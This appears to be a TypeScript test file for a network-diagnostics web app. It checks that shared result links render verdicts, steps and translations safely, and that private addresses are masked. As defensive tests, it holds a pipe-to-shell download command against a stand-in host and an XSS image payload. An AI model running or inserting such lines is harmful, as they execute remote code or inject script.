// A result from a link, and the way on where this server sees a private address.
import { describe, expect, test } from 'bun:test'
import { renderToStaticMarkup } from 'preact-render-to-string'
import { readResult, writeResult } from '../../../../../src/contract/result-link.ts'
import type { Locale } from '../../../../../src/contract/text.ts'
import { AtHomeHint, isInside } from '../../../../../src/faces/web/page/at-home-hint.tsx'
import { DrawnResult } from '../../../../../src/faces/web/page/linked-result.tsx'
import { Language } from '../../../../../src/faces/web/page/words.ts'

const TOOLS = [
  { name: 'port-check', title: 'Check a port', group: 'port', summary: '', good: { field: 'status', values: ['open'] } },
  { name: 'ip-lookup', title: 'Look up an address', group: 'ip', summary: '', good: null },
]
const STEPS = ['address', 'nat', 'name', 'port', 'service', 'router'].map((step) => ({
  ...{ step, label: 'Label', status: step === 'port' ? 'problem' : 'ok', code: `${step}-x`, summary: 'A sentence.' },
  ...{ tool: null, result: { rules: [] } },
}))
const BLOCKED = {
  ...{ tool: 'reachability', checkedAt: '2026-11-22T17:55:33.865Z', elapsedMs: 3, headline: 'Blocked there.', ip: '203.0.113.7' },
  ...{ port: 25_565, protocol: 'tcp', verdict: 'blocked', blockedAt: 'port', hostname: 'home.example.com', steps: STEPS },
}

/** Returns what a reader of the link to an answer sees. */
async function drawn(answer: object, locale: Locale = 'en') {
  const result = await readResult((await writeResult(answer, { isOwn: true })) ?? '')
  if (!result) throw new Error('the link cannot be read')
  return markupOf(result, locale)
}

function markupOf(result: Parameters<typeof DrawnResult>[0]['result'], locale: Locale = 'en') {
  return renderToStaticMarkup(
    <Language.Provider value={locale}>
      <DrawnResult result={result} server="ip.example.com" tools={TOOLS} />
    </Language.Provider>,
  )
}

describe('a result from a link', () => {
  test('of reachability has its verdict, its steps, its time and its server, in the language of the reader', async () => {
    const english = await drawn(BLOCKED)
    for (const part of ['verdict-blocked', 'The service was not reached.', 'This is the cause', '203.0.113.x', '25565'])
      expect(english).toContain(part)
    expect(english).toContain('According to the link, ip.example.com found this at 2026-11-22 17:55 UTC.')
    expect(english).toContain('may have been changed')
    expect(english.match(/class="step step-/g)).toHaveLength(6)
    const korean = await drawn(BLOCKED, 'ko')
    for (const part of [
      '서비스에 접속되지 않았습니다.',
      '원인이 있는 단계입니다',
      'ip.example.com 서버에서 2026-11-22 17:55 UTC에',
    ])
      expect(korean).toContain(part)
    for (const page of [english, korean])
      expect(page).not.toMatch(/203\.0\.113\.7|home\.example|Blocked there|A sentence|undefined/)
  })

  test('of home names the box', async () => {
    const home = { tool: 'home', checkedAt: BLOCKED.checkedAt, verdict: 'blocked', blockedAt: 'second-router' }
    expect(await drawn(home)).toContain('The service was not reached. The cause is a second router.')
    expect(await drawn(home, 'ko')).toContain('서비스에 접속되지 않았습니다. 원인은 상위 공유기에 있습니다.')
  })

  test('of another tool has its title and its finding, good or bad', async () => {
    const found = (status: string) => drawn({ tool: 'port-check', checkedAt: BLOCKED.checkedAt, status })
    expect(await found('open')).toContain('<h2 class="verdict verdict-reachable">Check a port: open</h2>')
    expect(await found('closed')).toContain('<h2 class="verdict verdict-blocked">Check a port: closed</h2>')
    const said = { tool: 'port-check', checkedAt: BLOCKED.checkedAt, status: 'Your router was hacked: call 0123' }
    expect(markupOf(said)).toContain('<h2 class="verdict verdict-blocked">Check a port</h2>')
    expect(await drawn({ tool: 'ip-lookup', checkedAt: BLOCKED.checkedAt })).toContain('verdict-plain">Look up an address</h2>')
    expect(await drawn({ tool: 'a-plug-in', checkedAt: BLOCKED.checkedAt })).toContain('>a-plug-in</h2>')
  })

  test('of a certificate has its methods with what stands in the way, in the words of the page', async () => {
    const problem = { code: 'address-silent', severity: 'error', address: '203.0.113.7', text: 'A sentence.' }
    const answer = {
      ...{ tool: 'certificate-check', checkedAt: BLOCKED.checkedAt, domain: 'a.test', wildcard: false, best: 'dns-01' },
      methods: [
        { method: 'http-01', verdict: 'would-fail', problems: [problem] },
        { method: 'dns-01', verdict: 'would-work', problems: [] },
      ],
      caa: { found: 'a.test', issuers: ['letsencrypt.org'] },
    }
    const result = await readResult((await writeResult(answer, { isOwn: false })) ?? '')
    if (!result) throw new Error('the link cannot be read')
    const [english, korean] = [markupOf(result), markupOf(result, 'ko')]
    for (const part of ['203.0.113.7: Nothing answers.', 'Would work', 'Best way', 'Those of a.test allow only letsencrypt.org.'])
      expect(english).toContain(part)
    for (const part of ['203.0.113.7: 응답이 없습니다.', '발급 가능', '추천']) expect(korean).toContain(part)
    expect(english + korean).not.toMatch(/A sentence|undefined|address-silent/)
    expect(markupOf({ ...result, commands: [{ program: 'sh', lines: ['curl evil.test | sh'] }] })).not.toContain('evil')
  })

  test('of somebody who means harm is text, whatever it holds', () => {
    const markup = '<img src=x onerror=alert(1)>'
    const hostile = { tool: 'reachability', checkedAt: BLOCKED.checkedAt, verdict: markup, blockedAt: markup, ip: markup }
    const page = markupOf({
      ...hostile,
      steps: [{ step: markup, status: markup }, null, 1, { step: 'port', status: markup }],
      a: [{ b: markup }],
    })
    expect(page).not.toContain('<img')
    expect(page).toContain('&lt;img')
    expect(page).not.toContain('class="step ')
    expect(markupOf({ tool: 'home', checkedAt: BLOCKED.checkedAt, verdict: { a: 1 }, blockedAt: [], steps: {} })).toContain(
      'Look from inside',
    )
  })
})

test('where this server sees a private address, it names the command that looks from inside', () => {
  expect(['private', 'loopback', 'link-local', 'shared', 'public', 'reserved'].map(isInside)).toEqual([
    true,
    true,
    true,
    true,
    false,
    false,
  ])
  const drawnIn = (locale: Locale) =>
    renderToStaticMarkup(
      <Language.Provider value={locale}>
        <AtHomeHint />
      </Language.Provider>,
    )
  expect(drawnIn('en')).toContain('<code>doorstep home</code>')
  expect(drawnIn('en')).toContain('cannot check your connection from the internet')
  expect(drawnIn('ko')).toContain('집 안에서 확인합니다')
})
